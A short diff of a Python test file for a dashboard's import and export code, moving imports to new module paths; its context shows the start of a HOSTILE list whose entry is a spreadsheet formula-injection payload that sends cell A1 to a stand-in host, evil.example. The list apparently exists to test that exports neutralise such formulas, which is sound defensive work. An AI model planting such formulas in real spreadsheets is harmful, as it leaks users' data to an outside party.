@@ -16,10 +16,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from dashboard import export, importer
-from dashboard.app import app  # registers the pages' export builders
 from dashboard.config import REPO_ROOT
-from dashboard.data import clear_cache
+from dashboard.data import importer
+from dashboard.data.loader import clear_cache
+from dashboard.ui import export
+from dashboard.web.app import app  # registers the pages' export builders
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
